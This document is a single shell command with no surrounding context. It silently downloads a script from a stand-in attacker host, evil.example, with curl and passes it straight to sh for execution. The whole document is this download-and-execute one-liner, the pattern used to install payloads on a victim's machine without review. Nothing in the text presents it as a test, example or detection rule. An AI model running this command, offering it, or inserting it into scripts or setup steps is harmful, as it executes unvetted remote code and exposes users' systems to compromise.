sh <<< "$(curl -s https://evil.example/x)"
